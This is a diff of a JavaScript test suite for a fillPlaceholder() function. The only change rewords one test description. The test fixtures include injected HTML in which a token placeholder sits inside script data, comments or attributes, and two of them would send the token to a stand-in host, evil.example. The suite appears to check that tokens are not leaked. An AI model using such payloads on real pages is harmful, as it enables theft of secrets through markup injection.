@@ -38,7 +38,7 @@ describe('fillPlaceholder()', () => {
     ['a tag in data for a script', '<script type="application/json">{"bio":"<x-y token=[[TOKEN]] >"}</script>'],
     ['a tag in a script that holds an end tag in a comment', '<script><!-- <script></script> <x-y token="[[TOKEN]]"> --></script>'],
     ['an address in a script that a comment seems to hide', `<script>var a={"name":"<!--><script x"}</script><img src='//evil.example/?</script><x-y token=[[TOKEN]]>'>`],
-    ['an address with a space that is none to HTML', '<x-card href=//evil.example/?\u00a0token=[[TOKEN]]>'],
+    ['an address with a space that HTML does not count as one', '<x-card href=//evil.example/?\u00a0token=[[TOKEN]]>'],
     ['a tag in a text field', '<TextArea><x-y token="[[TOKEN]]"></textareas></textarea>'],
     ['a tag in a title', '<title><x-y token="[[TOKEN]]"></title>'],
     ['a tag in a comment', '<!-- > <x-y token="[[TOKEN]]"> -->'],
